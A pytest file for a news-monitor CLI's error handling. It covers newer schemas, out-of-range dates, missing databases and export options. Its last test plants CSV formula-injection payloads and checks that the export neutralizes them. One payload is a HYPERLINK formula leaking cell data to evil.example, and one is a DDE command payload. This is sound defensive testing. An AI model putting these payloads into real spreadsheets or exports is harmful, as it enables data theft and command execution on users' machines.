"""Bad input: one line on stderr, exit status 2, nothing changed (issue 9, item 5; export bits of item 7).

Every case runs the real CLI (click's runner, or a real `python -m monitor` process) on a real
SQLite file: a database from a newer monitor, days and instants at the ends of the calendar, ids
beyond SQLite's INTEGER, a mistyped --db, --out into a missing folder, hostile CSV cells and
--since with a UTC offset.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from monitor.cli.main import cli
from monitor.errors import NewerDatabase
from monitor.store import db as store
from monitor.store.db import open_db, write_transaction
from tests.fixtures_search import build_search_db

ENV = {"MONITOR_TRANSLATION_ENGINE": "none"}
HUGE = "99999999999999999999"  # beyond SQLite's INTEGER (2**63 - 1)


def _cli(db: Path, *args: str, config: Path | None = None) -> Result:
    head = ["--config", str(config)] if config else []
    return CliRunner().invoke(cli, [*head, "--db", str(db), *args], env=ENV)


def _one_line_error(result: Result, *needles: str) -> str:
    """The result is exit 2 with exactly one `error: ...` line on stderr, no traceback; returns it."""
    assert result.exit_code == 2, (result.exit_code, result.output, result.exception)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    assert "Traceback" not in result.output
    for needle in needles:
        assert needle in lines[0], (needle, lines[0])
    return lines[0]


def _digest(path: Path) -> str:
    """A hash of the database file and its WAL (if any): any write shows up here."""
    h = hashlib.sha256(path.read_bytes())
    wal = path.with_name(path.name + "-wal")
    if wal.exists():
        h.update(wal.read_bytes())
    return h.hexdigest()


@pytest.fixture
def db(tmp_path: Path) -> Path:
    """A private copy of the small bilingual database (tests may check that it stays unchanged)."""
    return build_search_db(tmp_path / "monitor.db")


# ------------------------------------------------------------------------------ newer schema


def _set_user_version(path: Path, version: int) -> None:
    conn = sqlite3.connect(path)
    try:
        conn.execute(f"PRAGMA user_version = {version}")
        conn.commit()
    finally:
        conn.close()


@pytest.mark.parametrize(
    "args",
    [["status"], ["search", "cartel"], ["show", "1"], ["export"], ["digest"], ["feeds", "reset"], ["stories"]],
    ids=lambda a: " ".join(a),
)
def test_database_from_a_newer_monitor_is_refused_and_left_untouched(db: Path, args: list[str]) -> None:
    ours = store.latest_version()
    _set_user_version(db, ours + 1)
    before = _digest(db)
    _one_line_error(_cli(db, *args), f"schema version {ours + 1}", f"({ours})", str(db))
    assert _digest(db) == before
    conn = sqlite3.connect(db)
    try:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == ours + 1
    finally:
        conn.close()


def test_newer_database_in_a_real_process_is_one_line(db: Path) -> None:
    ours = store.latest_version()
    _set_user_version(db, ours + 7)
    before = _digest(db)
    proc = subprocess.run(
        [sys.executable, "-m", "monitor", "--db", str(db), "status"],
        capture_output=True, text=True, env={**_base_env(), **ENV}, check=False,
    )
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr.count("\n") == 1 and f"schema version {ours + 7}" in proc.stderr, proc.stderr
    assert proc.stdout == ""
    assert _digest(db) == before


def test_open_db_refuses_a_newer_schema_read_only_too(db: Path) -> None:
    _set_user_version(db, store.latest_version() + 1)
    with pytest.raises(NewerDatabase):
        open_db(db, readonly=True)
    with pytest.raises(NewerDatabase):
        open_db(db)


def _base_env() -> dict[str, str]:
    return {k: v for k, v in os.environ.items() if not k.startswith("MONITOR_")}


# ------------------------------------------------------------------------------ days and ids


@pytest.mark.parametrize("command", ["digest", "stories", "compare"])
@pytest.mark.parametrize("value", ["9999-12-31", "0001-01-01", "", "  "])
def test_date_out_of_range_or_empty_is_one_line(db: Path, command: str, value: str) -> None:
    before = _digest(db)
    _one_line_error(_cli(db, command, "--date", value), "--date")
    assert _digest(db) == before  # the digest command stores digests: nothing was stored


def test_the_ends_of_the_allowed_range_work(db: Path) -> None:
    for day in ("1900-01-01", "9998-12-31"):
        for args in (["stories", "--date", day, "--days", "366"], ["compare", "--date", day, "--json"]):
            result = _cli(db, *args)
            assert result.exit_code == 0, (args, result.output, result.exception)


@pytest.mark.parametrize(
    "args",
    [
        ["search", "cartel", "until:9999-12-31"],
        ["search", "cartel", "since:0001-01-01"],
        ["search", "--until", "9999-12-31", "cartel"],
        ["search", "since:9999-12-31T23:00:00-06:00"],
        ["search", "--json", "until:9999-12-31"],
    ],
    ids=lambda a: " ".join(a),
)
def test_search_dates_out_of_range_are_one_line(db: Path, args: list[str]) -> None:
    _one_line_error(_cli(db, *args), "out of range")


def test_alert_rule_with_an_absurd_date_is_a_config_error(db: Path, tmp_path: Path) -> None:
    config = tmp_path / "alerts.toml"
    config.write_text('[[alerts]]\nname = "forever"\nterms = "cartel until:9999-12-31"\n', encoding="utf-8")
    _one_line_error(_cli(db, "alerts", "list", config=config), "forever", "until:9999-12-31", "out of range")


def test_alerts_test_with_absurd_hours_is_a_usage_error(db: Path, tmp_path: Path) -> None:
    """--hours beyond ~50 years overflowed timedelta (a traceback); it is click's usage error now."""
    config = tmp_path / "alerts.toml"
    config.write_text('[[alerts]]\nname = "strikes"\nterms = "cartel"\n', encoding="utf-8")
    result = _cli(db, "alerts", "test", "strikes", "--hours", "99999999999999", config=config)
    assert result.exit_code == 2, (result.output, result.exception)
    assert "--hours" in result.output and "Traceback" not in result.output
    assert isinstance(result.exception, SystemExit)
    assert _cli(db, "alerts", "test", "strikes", "--hours", "48", config=config).exit_code == 0


def test_show_an_id_beyond_sqlite_integer_is_one_line(db: Path) -> None:
    _one_line_error(_cli(db, "show", HUGE), f"no article #{HUGE}")
    _one_line_error(_cli(db, "show", "0"), "no article #0")
    assert _cli(db, "show", "1").exit_code == 0


# ------------------------------------------------------------------------------ a mistyped --db


@pytest.mark.parametrize(
    "args",
    [["status"], ["search", "cartel"], ["show", "1"], ["stories"], ["compare"], ["export"], ["serve", "--port", "0"]],
    ids=lambda a: a[0],
)
def test_read_only_command_on_a_missing_database_creates_nothing(tmp_path: Path, args: list[str]) -> None:
    missing = tmp_path / "typo" / "monitor.db"
    line = _one_line_error(_cli(missing, *args))
    assert line == f"error: no database at {missing} (run `monitor run` first or pass --db)"
    assert not missing.parent.exists()


def test_help_of_a_read_only_command_needs_no_database(tmp_path: Path) -> None:
    result = _cli(tmp_path / "typo" / "monitor.db", "status", "--help")
    assert result.exit_code == 0 and "Database size" in result.output


# ------------------------------------------------------------------------------ export


def test_export_into_a_missing_folder_is_a_clear_error(db: Path, tmp_path: Path) -> None:
    target = tmp_path / "no-such-folder" / "out.csv"
    _one_line_error(_cli(db, "export", "--format", "csv", "--out", str(target)), "does not exist", str(target.parent))
    assert not target.parent.exists()


@pytest.mark.parametrize("value", ["", "yesterday-ish", "9999-12-31T23:00:00-06:00", "0001-01-01"])
def test_export_bad_since_is_one_line(db: Path, value: str) -> None:
    _one_line_error(_cli(db, "export", "--since", value), "--since")


def _exported_ids(db: Path, *args: str) -> list[int]:
    result = _cli(db, "export", *args)
    assert result.exit_code == 0, (result.output, result.exception)
    return sorted(json.loads(line)["id"] for line in result.stdout.splitlines())


def test_export_since_and_until_with_an_offset_compare_instants(db: Path) -> None:
    # article 2 was published 2026-11-21T09:30Z, article 8 at 20:00Z, article 7 on the 22nd at 07:00Z.
    # 04:00-06:00 is 10:00Z: after article 2, although "T09:30" > "T04:00" as strings.
    assert _exported_ids(db, "--since", "2026-11-21T04:00:00-06:00") == [7, 8]
    # 05:00-05:00 is 10:00Z: article 2 is before it, article 8 is not ("T20:00" > "T05:00" either way)
    assert 2 in _exported_ids(db, "--until", "2026-11-21T05:00:00-05:00")
    # 21:00+02:00 is 19:00Z the day before the string says: article 8 (20:00Z on the 21st) is after it
    assert _exported_ids(db, "--since", "2026-11-21T21:00:00+02:00") == [7, 8]
    assert _exported_ids(db, "--since", "2026-11-21T21:00:01Z") == [7]
    assert _exported_ids(db, "--since", "2026-11-21") == [2, 7, 8]  # a plain date: midnight UTC, as before


HOSTILE_CELLS = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
    "summary": "+cmd|' /C calc'!A0",
    "url": "@SUM(1+1)",
    "guid": "-2+3",
    "link": "\tTAB first",
    "content_text": "\rCR first",
}


def _add_hostile_article(db_path: Path) -> int:
    db = open_db(db_path)
    try:
        with write_transaction(db):
            cur = db.execute(
                "INSERT INTO articles (outlet, country, language, outlet_language, url, link, guid, title, summary,"
                " content_text, published, date_source, first_seen, content_hash)"
                " VALUES ('nyt', 'US', 'en', 'en', ?, ?, ?, ?, ?, ?, '2026-11-23T00:00:00+00:00', 'feed',"
                " '2026-11-23T00:00:00+00:00', 'hostile')",
                [HOSTILE_CELLS["url"], HOSTILE_CELLS["link"], HOSTILE_CELLS["guid"], HOSTILE_CELLS["title"],
                 HOSTILE_CELLS["summary"], HOSTILE_CELLS["content_text"]],
            )
            return int(cur.lastrowid)
    finally:
        db.close()


def test_csv_export_neutralizes_formula_cells(db: Path, tmp_path: Path) -> None:
    hostile = _add_hostile_article(db)
    out = tmp_path / "articles.csv"
    result = _cli(db, "export", "--format", "csv", "--out", str(out))
    assert result.exit_code == 0, (result.output, result.exception)
    with out.open(encoding="utf-8", newline="") as fh:
        rows = {int(r["id"]): r for r in csv.DictReader(fh)}
    row = rows[hostile]
    for column in ("title", "summary", "url", "guid", "link", "content_text"):
        assert row[column] == "'" + HOSTILE_CELLS[column], column
    # harmless cells are unchanged, and no cell of any row starts like a formula
    assert rows[2]["title"] == "Pentagon weighs military strikes on Mexican cartels"
    for r in rows.values():
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # JSON Lines keeps the stored text exactly: the prefix is a CSV (spreadsheet) rule only
    lines = [json.loads(line) for line in _cli(db, "export").stdout.splitlines()]
    assert next(r for r in lines if r["id"] == hostile)["title"] == HOSTILE_CELLS["title"]
